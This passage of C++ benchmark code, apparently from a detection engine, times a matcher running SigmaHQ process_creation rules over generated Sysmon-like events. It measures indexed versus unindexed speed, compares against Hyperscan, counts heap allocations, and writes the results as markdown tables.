    if (!fs::is_directory(sigma_dir / "rules/windows/process_creation")) {
        fmt::print("\ninterpreter on SigmaHQ rules: no checkout at {}; rows not run\n",
                   sigma_dir.string());
        return true;
    }
    auto registry = load_registry((root / "examples/registry.txtpb").string());
    auto manifests = load_manifests({(root / "examples/manifests-sysmon").string()});
    if (!registry.ok() || !manifests.ok() || manifests.value->size() != 1) {
        return false;
    }
    const SensorManifest manifest = (*manifests.value)[0];
    const TemplateType* type = registry.value->find(kTemplateId, kTemplateVersion);
    auto target = ValidationTarget::create(*registry.value, *manifests.value);
    const std::optional<SigmaSet> set = import_process_creation(root, sigma_dir);
    if (type == nullptr || !target.ok() || !set.has_value()) {
        fmt::print(stderr, "bench: the Sigma process_creation set does not import\n");
        return false;
    }
    // The sensor's table for process_start, as the loader gets it.
    const std::vector<ringward_template_support> table = to_loader_table(manifest);
    const ringward_template_support* support = nullptr;
    for (const ringward_template_support& t : table) {
        if (t.id == kTemplateId && t.version == kTemplateVersion) {
            support = &t;
        }
    }
    RegressionEvents regression;
    if (support == nullptr ||
        !read_regression_events(root, sigma_dir, *registry.value, *support, regression)) {
        fmt::print(stderr, "bench: no regression events under {}\n", sigma_dir.string());
        return false;
    }
    constexpr uint64_t kSigmaGeneratedEvents = 500;
    EventSet generated;
    for (uint64_t i = 0; i < kSigmaGeneratedEvents; ++i) {
        add_event(generated, *type, sysmon_event(*type, 0x516a0000 + i));
    }
    finish(generated);

    const SecretKey key = SecretKey::generate();
    const int reps = quick ? 1 : 5;
    std::vector<ScaleRow> rows;
    bool same = true;
    // 10x / 1x with the index: the two sets timed in alternating passes.
    std::unique_ptr<Loaded> one_loaded;
    std::unique_ptr<Matcher> one_indexed;
    Timing growth_regression;
    Timing growth_generated;
    for (const uint32_t copies : {1u, 4u, 10u}) {
        const v1::ContentFile content = scaled(set->content, copies);
        auto loaded = load_content(content, *target.value, manifest, key, false);
        if (loaded == nullptr) {
            return false;
        }
        Matcher every(loaded->loaded);
        auto indexed_owned = std::make_unique<Matcher>(loaded->loaded, true);
        Matcher& indexed = *indexed_owned;
        ScaleRow row;
        row.copies = copies;
        row.instances = loaded->loaded.instance_count;
        row.index_bytes = indexed.index.size() * 8;
        row.index_build_bytes = indexed.plan.index_bytes;
        row.blob_bytes = loaded->loaded.blob_size;
        row.index_build_seconds = indexed.index_build_seconds;
        row.max_steps = indexed.plan.max_steps;
        // The index changes no verdict: the same hits on every event.
        const auto check = [&](const std::vector<ringward_event>& events, size_t& matching) {
            for (const ringward_event& e : events) {
                every.run(e);
                const std::vector<uint32_t> a(every.matched.begin(), every.matched.end());
                indexed.run(e);
                const std::vector<uint32_t> b(indexed.matched.begin(), indexed.matched.end());
                same = same && a == b;
                matching += a.empty() ? 0 : 1;
            }
        };
        check(regression.events, row.regression_matching);
        check(generated.events, row.generated_matching);
        start_counting_allocations();
        volatile size_t sink = 0;
        for (const ringward_event& e : generated.events) {
            sink = sink + indexed.run(e);
        }
        for (const ringward_event& e : regression.events) {
            sink = sink + indexed.run(e);
        }
        row.allocations = stop_counting_allocations();
        const auto on = [&](Matcher& m, const std::vector<ringward_event>& events) {
            return time_events(events.size(), reps,
                               [&](size_t i) { sink = sink + m.run(events[i]); });
        };
        row.every_regression = on(every, regression.events);
        row.every_generated = on(every, generated.events);
#ifdef RINGWARD_BENCH_HYPERSCAN
        if (auto hs = build_hyperscan(content, *type)) {
            row.hyperscan = true;
            row.hs_patterns = hs->patterns;
            row.hs_refused = hs->refused;
            row.hs_compile_seconds = hs->compile_seconds;
            const auto paired = [&](const std::vector<ringward_event>& events, PerEvent& ours,
                                    PerEvent& theirs, Timing& ratio) {
                const Paired p = time_paired(
                    events.size(), reps, [&](size_t i) { sink = sink + indexed.run(events[i]); },
                    [&](size_t i) { hs->scan(events[i]); });
                ours = p.a;
                theirs = p.b;
                ratio = p.ratio;
            };
            paired(regression.events, row.indexed_regression, row.hs_regression,
                   row.hs_ratio_regression);
            paired(generated.events, row.indexed_generated, row.hs_generated,
                   row.hs_ratio_generated);
        }
#endif
        if (!row.hyperscan) {
            row.indexed_regression = on(indexed, regression.events);
            row.indexed_generated = on(indexed, generated.events);
        }
        row.most_steps_indexed = indexed.most_steps;
        row.most_steps_every = every.most_steps;
        if (copies == 1) {
            // Kept for the growth figures, timed in turn with the 10x set.
            one_loaded = std::move(loaded);
            one_indexed = std::move(indexed_owned);
        } else if (copies == 10) {
            const auto growth = [&](const std::vector<ringward_event>& events) {
                return time_paired(
                           events.size(), reps,
                           [&](size_t i) { sink = sink + indexed.run(events[i]); },
                           [&](size_t i) { sink = sink + one_indexed->run(events[i]); })
                    .ratio;
            };
            growth_regression = growth(regression.events);
            growth_generated = growth(generated.events);
        }
        rows.push_back(row);
    }

    const ScaleRow& one = rows.front();
    const ScaleRow& ten = rows.back();
    const std::string setup = fmt::format(
        "SigmaHQ process_creation ({} of {} rules imported, {} instances, with the example "
        "mapping), loaded as build {}, at 1x, 4x and 10x (copies with \"zq<k>x\" in every string "
        "literal of their positive criteria, ids shifted); {} regression events ({} files under "
        "{}) and {} generated "
        "Sysmon-like events (ordinary Windows process starts, 4% with an attacker-style command "
        "line; seed 0x516a0000); one core, {} passes of about "
        "50 ms each, median ns/event (events/s, fastest - slowest pass); the index and Hyperscan, "
        "and the index at 10x and 1x, in alternating passes, each ratio the median of the pairs' "
        "ratios (lowest - highest); {} build.",
        set->imported, set->rules, one.instances, manifest.sensor_version_text,
        regression.events.size(), regression.files,
        "regression_data/rules/windows/process_creation", generated.events.size(), reps,
        RINGWARD_BENCH_BUILD_TYPE);
    std::string md = setup + "\n\n";
    md +=
        "| set | events | every instance in turn | with the index | speed-up | Hyperscan | "
        "index / Hyperscan |\n| --- | --- | ---: | ---: | ---: | ---: | ---: |\n";
    fmt::print("\ninterpreter on SigmaHQ rules: {}\n", setup);
    const auto line = [&](const ScaleRow& r, const char* events, const PerEvent& every,
                          const PerEvent& indexed, const PerEvent& hs, const Timing& paired) {
        const std::string hs_text = r.hyperscan ? timed(hs) : std::string("not built");
        const std::string ratio = r.hyperscan ? fmt::format("{:.2f} ({:.2f} - {:.2f})",
                                                            paired.median, paired.min, paired.max)
                                              : std::string("-");
        fmt::print(
            "  {:>3}x {:<10} every {:>34}  indexed {:>34}  x{:<6.1f} hyperscan {:>34}  "
            "ratio {}\n",
            r.copies, events, timed(every), timed(indexed), every.median / indexed.median, hs_text,
            ratio);
        md += fmt::format("| {}x ({} instances) | {} | {} | {} | {:.1f}x | {} | {} |\n", r.copies,
                          r.instances, events, timed(every), timed(indexed),
                          every.median / indexed.median, hs_text, ratio);
    };
    for (const ScaleRow& r : rows) {
        line(r, "regression", r.every_regression, r.indexed_regression, r.hs_regression,
             r.hs_ratio_regression);
        line(r, "generated", r.every_generated, r.indexed_generated, r.hs_generated,
             r.hs_ratio_generated);
    }
    md += "\n| measurement | value | target |\n| --- | ---: | --- |\n";
    const auto fact = [&](const std::string& name, const std::string& value,
                          const std::string& verdict) {
        fmt::print("  {}: {} {}\n", name, value, verdict);
        md += fmt::format("| {} | {} | {} |\n", name, value, verdict);
    };
    const auto spread = [](const Timing& t) {
        return fmt::format("{:.2f} ({:.2f} - {:.2f})", t.median, t.min, t.max);
    };
    fact("10x / 1x per event with the index, regression events", spread(growth_regression),
         fmt::format("<= 2: {}", growth_regression.median <= 2 ? "met" : "MISSED"));
    fact("10x / 1x per event with the index, generated events", spread(growth_generated),
         fmt::format("<= 2: {}", growth_generated.median <= 2 ? "met" : "MISSED"));
    fact("10x / 1x per event every instance in turn, generated events",
         fmt::format("{:.2f}", ten.every_generated.median / one.every_generated.median), "");
    bool hs_met = true;
    for (const ScaleRow& r : rows) {
        if (r.hyperscan) {
            const double ratio = r.hs_ratio_generated.median;
            const double matching = r.hs_ratio_regression.median;
            hs_met = hs_met && ratio <= 2 && matching <= 2;
            fact(fmt::format("{}x: index / Hyperscan per event, generated events", r.copies),
                 spread(r.hs_ratio_generated),
                 fmt::format("<= 2: {}", ratio <= 2 ? "met" : "MISSED"));
            fact(fmt::format("{}x: index / Hyperscan per event, regression events ({} of {} "
                             "matching)",
                             r.copies, r.regression_matching, regression.events.size()),
                 spread(r.hs_ratio_regression),
                 fmt::format("<= 2: {}", matching <= 2 ? "met" : "MISSED"));
            fact(
                fmt::format("{}x: Hyperscan patterns (refused), compile time", r.copies),
                fmt::format("{} ({}), {:.2f} s", r.hs_patterns, r.hs_refused, r.hs_compile_seconds),
                "");
        }
    }
    if (!one.hyperscan) {
        fact("Hyperscan", "not built (no libhs when the bench was configured)", "");
    }
    for (const ScaleRow& r : rows) {
        fact(fmt::format("{}x: index bytes kept (x the blob), to build, build time", r.copies),
             fmt::format("{} ({:.2f}x), {}, {:.1f} ms", r.index_bytes,
                         static_cast<double>(r.index_bytes) / static_cast<double>(r.blob_bytes),
                         r.index_build_bytes, r.index_build_seconds * 1e3),
             "");
        fact(fmt::format("{}x: steps, the plan's bound / most spent indexed / every instance",
                         r.copies),
             fmt::format("{} / {} / {}", r.max_steps, r.most_steps_indexed, r.most_steps_every),
             r.most_steps_indexed <= r.max_steps && r.most_steps_every <= r.max_steps
                 ? "within: met"
                 : "MISSED");
        fact(fmt::format("{}x: events matching, regression / generated", r.copies),
             fmt::format("{} / {}", r.regression_matching, r.generated_matching), "");
        fact(fmt::format("{}x: heap allocations with the index, {} events", r.copies,
                         regression.events.size() + generated.events.size()),
             fmt::format("{}", r.allocations),
             fmt::format("target 0: {}", r.allocations == 0 ? "met" : "MISSED"));
    }
    fact("the same hits with and without the index, every event and scale", same ? "yes" : "NO",
         same ? "met" : "MISSED");
    if (!markdown_path.empty() && !write_section(markdown_path, md, "match-sigma")) {
        return false;
    }
    bool met = same && growth_generated.median <= 2 && growth_regression.median <= 2;
    for (const ScaleRow& r : rows) {
        met = met && r.allocations == 0 && r.most_steps_indexed <= r.max_steps;
    }
    return met && hs_met;
}

}  // namespace

bool run_match_rows(const fs::path& root, bool quick, const std::string& markdown_path,
                    const fs::path& sigma_dir) {
    // The allocation counter must see an allocation it is shown, or its zero
    // for ringward_match would mean nothing.
    start_counting_allocations();
    {
        auto probe = std::make_unique<uint64_t>(1);
        allocation_sink = probe.get();
    }
    if (stop_counting_allocations() == 0) {
        fmt::print(stderr, "bench: the allocation counter does not count\n");
        return false;
    }

    auto registry = load_registry((root / "examples/registry.txtpb").string());
    auto manifests = load_manifests({(root / "examples/manifests-sysmon").string()});
    if (!registry.ok() || !manifests.ok() || manifests.value->size() != 1) {
        fmt::print(stderr, "bench: the example registry or the Sysmon manifest does not load\n");
        return false;
    }
    const SensorManifest manifest = (*manifests.value)[0];
    const TemplateType* type = registry.value->find(kTemplateId, kTemplateVersion);
    if (type == nullptr) {
        fmt::print(stderr, "bench: the registry has no process_start v3\n");
        return false;
    }
    Registry process_start = *registry.value;
    std::erase_if(process_start.template_types, [](const TemplateType& t) {
        return t.id != kTemplateId || t.version != kTemplateVersion;
    });
    auto target = ValidationTarget::create(*registry.value, *manifests.value);
    if (!target.ok()) {
        return false;
    }
    GeneratorOptions options;
    options.seed = 2024;
    options.instances = kGeneratedInstances;
    options.sensor_min = manifest.sensor_version_text;
    options.sensor_max = options.sensor_min;
    v1::ContentFile content = generate(process_start, options);
    const SecretKey key = SecretKey::generate();

    // Calibration: the generator's instances are random, and many (one
    // negated criterion, or exists alone) fire on most events, which real
    // content tuned on real telemetry does not. Instances that fire on more
    // than 1% of a calibration set of events (not the timed ones) are left
    // out, as an author tunes out noisy rules.
    EventSet calibration;
    for (uint64_t i = 0; i < kCalibrationEvents; ++i) {
        add_event(calibration, *type, generate_event(*type, 0xca1b0000 + i));
    }
    finish(calibration);
    {
        auto first = load_content(content, *target.value, manifest, key);
        if (first == nullptr) {
            return false;
        }
        Matcher calibrate(first->loaded);
        std::map<uint32_t, uint64_t> fired;
        for (const ringward_event& e : calibration.events) {
            calibrate.run(e);
            for (uint32_t id : calibrate.matched) {
                ++fired[id];
            }
        }
        auto* instances = content.mutable_instances();
        instances->erase(std::remove_if(instances->begin(), instances->end(),
                                        [&](const v1::TemplateInstance& instance) {
                                            return fired[instance.id()] * 100 > kCalibrationEvents;
                                        }),
                         instances->end());
    }
    auto kept = load_content(content, *target.value, manifest, key);
    if (kept == nullptr) {
        return false;
    }
    const ringward_loaded& loaded = kept->loaded;
    Matcher m(loaded);

    // The events, split by whether they match.
    EventSet all;
    for (uint64_t i = 0; i < kEvents; ++i) {
        add_event(all, *type, generate_event(*type, 0x5eed0000 + i));
    }
    finish(all);
    std::vector<ringward_event> hits;
    std::vector<ringward_event> misses;
    uint64_t matched_instances = 0;
    for (const ringward_event& e : all.events) {
        const size_t n = m.run(e);
        matched_instances += n;
        (n > 0 ? hits : misses).push_back(e);
    }

    // Zero allocations in ringward_match, counted over every event.
    start_counting_allocations();
    volatile size_t sink = 0;
    for (const ringward_event& e : all.events) {
        sink = sink + m.run(e);
    }
    const uint64_t allocations = stop_counting_allocations();

    // The same with the index: the same hits on every event, and no
    // allocation either.
    Matcher fast(loaded, true);
    bool same = true;
    start_counting_allocations();
    for (const ringward_event& e : all.events) {
        m.run(e);
        fast.run(e);
        same = same && std::equal(m.matched.begin(), m.matched.end(), fast.matched.begin(),
                                  fast.matched.end());
    }
    const uint64_t index_allocations = stop_counting_allocations();
    if (!same) {
        fmt::print(stderr, "bench: ringward_match with and without the index disagree\n");
        return false;
    }

    const int reps = quick ? 1 : 5;
    const Rate mixed = rate_of(m, all.events, reps);
    const Rate matching = rate_of(m, hits, reps);
    const Rate missing = rate_of(m, misses, reps);
    const Rate fast_mixed = rate_of(fast, all.events, reps);
    const Rate fast_matching = rate_of(fast, hits, reps);
    const Rate fast_missing = rate_of(fast, misses, reps);

    const std::string setup = fmt::format(
        "{} of {} generated process_start v3 instances (seed {}; those firing on more than 1% "
        "of {} calibration events left out), {} regex criteria among them, loaded as build {}; "
        "{} generated events, {} of them matching (an instance each on average {:.1f} of "
        "those), {} matching nothing; one core, {} passes each.",
        loaded.instance_count, kGeneratedInstances, options.seed, kCalibrationEvents,
        m.plan.regex_criteria, manifest.sensor_version_text, all.events.size(), hits.size(),
        hits.empty() ? 0.0
                     : static_cast<double>(matched_instances) / static_cast<double>(hits.size()),
        misses.size(), reps);
    struct Line {
        std::string name;
        Rate rate;
    };
    const Line lines[] = {{"ringward_match, all events", mixed},
                          {"ringward_match, matching events", matching},
                          {"ringward_match, events matching nothing", missing},
                          {"with the index, all events", fast_mixed},
                          {"with the index, matching events", fast_matching},
                          {"with the index, events matching nothing", fast_missing}};
    fmt::print("\ninterpreter: {}\n", setup);
    fmt::print("  {:<40} {:>12} {:>25}\n", "measurement", "events/s", "slowest - fastest pass");
    for (const Line& line : lines) {
        fmt::print("  {:<40} {:>12} {:>25}\n", line.name, per_second(line.rate.median),
                   fmt::format("{} - {}", per_second(line.rate.min), per_second(line.rate.max)));
    }
    fmt::print(
        "  steps per event: the plan's bound {}, the most spent {} (with the index {}; index "
        "{} bytes, {} to build)\n",
        m.plan.max_steps, m.most_steps, fast.most_steps, fast.index.size() * 8,
        fast.plan.index_bytes);
    fmt::print("  ringward_match heap allocations over {} events: {}; target 0: {}\n",
               all.events.size(), allocations, allocations == 0 ? "met" : "MISSED");

    if (!markdown_path.empty()) {
        std::string md =
            setup + "\n\n| measurement | events/s per core | slowest - fastest pass |\n";
        md += "| --- | ---: | ---: |\n";
        for (const Line& line : lines) {
            md += fmt::format("| {} | {} | {} - {} |\n", line.name, per_second(line.rate.median),
                              per_second(line.rate.min), per_second(line.rate.max));
        }
        md += fmt::format(
            "| steps per event: the plan's bound, the most spent (with the index) | {} | {} ({}) "
            "|\n",
            m.plan.max_steps, m.most_steps, fast.most_steps);
        md += fmt::format("| ringward_match heap allocations, {} events | {} | target 0: {} |\n",
                          all.events.size(), allocations, allocations == 0 ? "met" : "MISSED");
        if (!write_section(markdown_path, md)) {
            return false;
        }
    }
    fmt::print("  with the index: {} heap allocations over {} events and the same hits\n",
               index_allocations, all.events.size());
    const bool sigma_met = run_sigma_rows(root, sigma_dir, quick, markdown_path);
    return allocations == 0 && index_allocations == 0 && fast.most_steps <= fast.plan.max_steps &&
           sigma_met;
}

}  // namespace ringward::bench
